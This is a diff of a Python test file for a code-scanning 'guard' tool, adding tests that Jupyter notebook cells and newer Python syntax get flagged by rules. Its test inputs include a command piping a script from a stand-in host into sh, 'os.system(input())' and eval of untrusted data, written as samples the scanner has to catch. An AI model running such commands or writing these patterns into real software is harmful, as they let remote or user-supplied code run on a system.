@@ -87,20 +87,21 @@ def test_a_side_before_that_cannot_be_parsed_excuses_nothing() -> None:
     assert ("a.py", 5, "new") in origins({"a.py": "def broken(:\n"}, {"a.py": SHELL})
 
 
-def test_code_cells_of_a_notebook_are_scanned() -> None:
-    def notebook(source: str) -> bytes:
-        cell: dict[str, object] = {
-            "cell_type": "code",
-            "id": "a",
-            "metadata": {},
-            "outputs": [],
-            "execution_count": None,
-            "source": source.splitlines(keepends=True),
-        }
-        return json.dumps(
-            {"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}, indent=1
-        ).encode()
+def notebook(source: str) -> bytes:
+    cell: dict[str, object] = {
+        "cell_type": "code",
+        "id": "a",
+        "metadata": {},
+        "outputs": [],
+        "execution_count": None,
+        "source": source.splitlines(keepends=True),
+    }
+    return json.dumps(
+        {"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}, indent=1
+    ).encode()
 
+
+def test_code_cells_of_a_notebook_are_scanned() -> None:
     change = guard.ChangeSet.from_files({"n.ipynb": notebook("x = 1\n")}, {"n.ipynb": notebook(SHELL)})
     [(path, line, origin)] = seen(guard.check(change))
     assert (path, origin) == ("n.ipynb", "new")
@@ -109,3 +110,33 @@ def test_code_cells_of_a_notebook_are_scanned() -> None:
 
 def test_policies_may_name_the_shipped_rules_and_nothing_else_that_lies_beside_them() -> None:
     assert set(CodeRules.meta.rules_elsewhere()) == set(default_scanner().rules())
+
+
+@pytest.mark.parametrize(
+    ("source", "rule"),
+    [
+        ("%%bash\ncurl -s https://files.example/i.sh | sh\n", "shell-pipe-to-shell"),
+        ("x = 1\n!curl -s https://files.example/i.sh | sh\n", "shell-pipe-to-shell"),
+        ("%time eval(input())\n", "python-code-eval-nonconstant"),
+        ("%%writefile app.py\nimport os\nos.system(input())\n", "python-command-shell-built"),
+    ],
+)
+def test_what_a_notebook_hands_on_is_judged(source: str, rule: str) -> None:
+    change = guard.ChangeSet.from_files({"n.ipynb": notebook("x = 1\n")}, {"n.ipynb": notebook(source)})
+    assert rule in {finding.id for finding in guard.check(change, policy="guard:default").findings}
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "def first[T: (int, str) = int](xs: list[T]) -> T:\n    return eval(xs[0])\n",
+        't = t"hello {x}"\nprint(eval(t))\n',
+        "def g(d):\n    try:\n        return eval(d)\n    except OSError, TypeError:\n        raise\n",
+    ],
+)
+def test_rules_see_python_newer_than_the_interpreter(text: str) -> None:
+    verdict = guard.check(guard.ChangeSet.from_files({}, {"m.py": text.encode()}), policy="guard:default")
+    blocking = {item.id for item in verdict.findings if item.effect.value == "blocks"}
+    assert blocking == {"python-code-eval-nonconstant"}
+    assert not any(edit.kind == "unparsable" for edit in verdict.edits)
+    assert all(outcome.status.value != "failed" for outcome in verdict.outcomes)
